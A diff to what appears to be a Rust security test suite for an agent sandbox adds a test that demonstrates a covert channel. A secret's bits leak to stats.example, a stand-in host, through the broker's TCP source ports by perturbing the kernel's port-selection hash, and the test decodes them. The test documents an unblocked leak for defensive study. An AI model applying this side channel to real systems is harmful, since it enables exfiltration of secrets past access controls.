@@ -212,3 +212,142 @@ fn cookiestore_host_wide_socket_cookie_counter_carries_the_canary_from_calls_int
     assert_eq!(got["got"], json!(p.canary));
     eprintln!("cookiestore, full germline: 96/96 bits, 3 per hr call ({text}; chunks {chunks:?})");
 }
+
+// --- portdest: the broker's own source ports tell a destination ------------------------
+
+/// stats.example (cleared for nothing): answers `/port` and `/tick` with the source port the
+/// request came from, keeps `/set/<addr>` and answers `/addr` with it; records (path, port).
+struct PortDest {
+    addr: std::net::SocketAddr,
+    seen: std::sync::Arc<Mutex<Vec<(String, u16)>>>,
+    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
+}
+
+impl PortDest {
+    fn start() -> PortDest {
+        use std::io::{Read, Write};
+        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        l.set_nonblocking(true).unwrap();
+        let addr = l.local_addr().unwrap();
+        let seen = std::sync::Arc::new(Mutex::new(Vec::new()));
+        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+        let (s2, st2) = (seen.clone(), stop.clone());
+        std::thread::spawn(move || {
+            let mut kept = String::new();
+            let until = std::time::Instant::now() + Duration::from_secs(600);
+            for _ in 0..2_000_000 {
+                if st2.load(std::sync::atomic::Ordering::SeqCst) || std::time::Instant::now() > until {
+                    return;
+                }
+                let (mut c, peer) = match l.accept() {
+                    Ok(x) => x,
+                    Err(_) => {
+                        std::thread::sleep(Duration::from_millis(1));
+                        continue;
+                    }
+                };
+                let _ = c.set_nonblocking(false);
+                let _ = c.set_read_timeout(Some(Duration::from_secs(5)));
+                let mut buf = Vec::new();
+                let mut b = [0u8; 4096];
+                while !buf.windows(4).any(|w| w == b"\r\n\r\n") && buf.len() < 65536 {
+                    match c.read(&mut b) {
+                        Ok(0) | Err(_) => break,
+                        Ok(n) => buf.extend_from_slice(&b[..n]),
+                    }
+                }
+                let head = String::from_utf8_lossy(&buf).to_string();
+                let target = head.split_whitespace().nth(1).unwrap_or("").to_owned();
+                let path = target.rsplit_once("stats.example").map(|(_, p)| p.to_owned()).unwrap_or(target);
+                let body = if let Some(a) = path.strip_prefix("/set/") {
+                    kept = a.to_owned();
+                    "ok".to_owned()
+                } else if path == "/addr" {
+                    kept.clone()
+                } else {
+                    peer.port().to_string()
+                };
+                s2.lock().unwrap().push((path, peer.port()));
+                let _ = write!(c, "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len());
+            }
+        });
+        PortDest { addr, seen, stop }
+    }
+}
+
+impl Drop for PortDest {
+    fn drop(&mut self) {
+        self.stop.store(true, std::sync::atomic::Ordering::SeqCst);
+    }
+}
+
+/// A public copy finds, by asking stats.example for the source ports of the broker's
+/// connections, an address of its own whose `table_perturb` entry is the one the broker's
+/// connections to stats.example go through; each of three hr calls' copies then moves that
+/// entry by 300 × (1 + 3 bits of the item) connects; stats.example reads the bits from the
+/// source ports of the broker's next connections to it (`tick`, public). All within one
+/// 10-s re-salt period of the kernel's hash, so 9 bits per period here. The destination learns
+/// the item from the broker's own packets. Nothing in germline switches this off.
+#[test]
+#[ignore = "open channel"]
+fn portdest_broker_source_ports_carry_item_bits_to_a_public_destination() {
+    let _t = TURNS.lock().unwrap_or_else(|p| p.into_inner());
+    let code = attack("portdest");
+    let w = World::new();
+    let mut oracle = Oracle::new();
+    let hr = oracle.plant(&["hr"]);
+    let secret = w.item("hr", "secret.txt", hr.as_str());
+    let tools = "[tools.find]\nhosts = [\"stats.example\"]\n[tools.send]\nhosts = [\"stats.example\"]\n[tools.tick]\nhosts = [\"stats.example\"]\n";
+    let release = w.release("portdest", tools, &code);
+    let d = PortDest::start();
+    let policy = w.policy(&[("stats.example", &[], Some(d.addr))], &[("agent", &["hr"]), ("public", &[])], "");
+    let mut rt = w.start_with(RuntimeKind::Germline, &release, policy, SandboxSwitches::default()).expect("starts");
+    let public = |rt: &mut Runtime, tool: &str, args: Value| {
+        let mut req = request(tool, args, &[]);
+        req.consumers = vec!["public".into()];
+        let o = rt.call(&req);
+        assert!(o.error.is_none(), "{tool}: {:?}", o.error);
+        result_text(&o)
+    };
+    // One re-salt period (10 s) per attempt: `find` waits for a re-salt, searches 32768
+    // addresses (a collision among them in ~40% of periods), then three hr calls follow.
+    let mut found = String::new();
+    let mut ok = false;
+    for attempt in 0..8 {
+        found = public(&mut rt, "find", json!({"start": 32768 * attempt}));
+        eprintln!("portdest find {attempt}: {found}");
+        let v: Value = serde_json::from_str(&found).unwrap();
+        if v["ok"] == json!(true) {
+            ok = true;
+            break;
+        }
+    }
+    assert!(ok, "no colliding address found in eight periods: {found}");
+    let before = d.seen.lock().unwrap().len();
+    for i in 0..3 {
+        let mut req = request("send", json!({"document": secret, "index": i}), &[&secret]);
+        req.consumers = vec!["agent".into()];
+        let o = rt.call(&req);
+        assert!(o.error.is_none(), "send {i}: {:?}", o.error);
+        public(&mut rt, "tick", json!({}));
+    }
+    // What stats.example saw: the source port of each connection, in order.
+    let seen = d.seen.lock().unwrap().clone();
+    let mut last: Option<u16> = seen[..before].iter().rev().find(|(p, _)| p == "/port").map(|x| x.1);
+    let mut bits = Vec::new();
+    let mut steps = Vec::new();
+    for (path, port) in &seen[before..] {
+        if path == "/tick" {
+            if let Some(p) = last {
+                let step = (i64::from(*port) - i64::from(p)).rem_euclid(28232);
+                steps.push(step);
+                bits.push((((step as f64 - 18.0) / 2700.0).round() as i64 - 1).clamp(0, 7));
+            }
+            last = Some(*port);
+        }
+    }
+    let x = u128::from_str_radix(&hr.as_str()[hr.as_str().len() - 24..], 16).unwrap();
+    let want: Vec<i64> = (0..3).map(|i| ((x >> (3 * (31 - i))) & 7) as i64).collect();
+    eprintln!("portdest: stats.example read {bits:?}, the item's first 9 bits are {want:?} (steps {steps:?}; {found})");
+    assert_eq!(bits, want, "portdest: the destination reads the item's bits from the broker's source ports");
+}
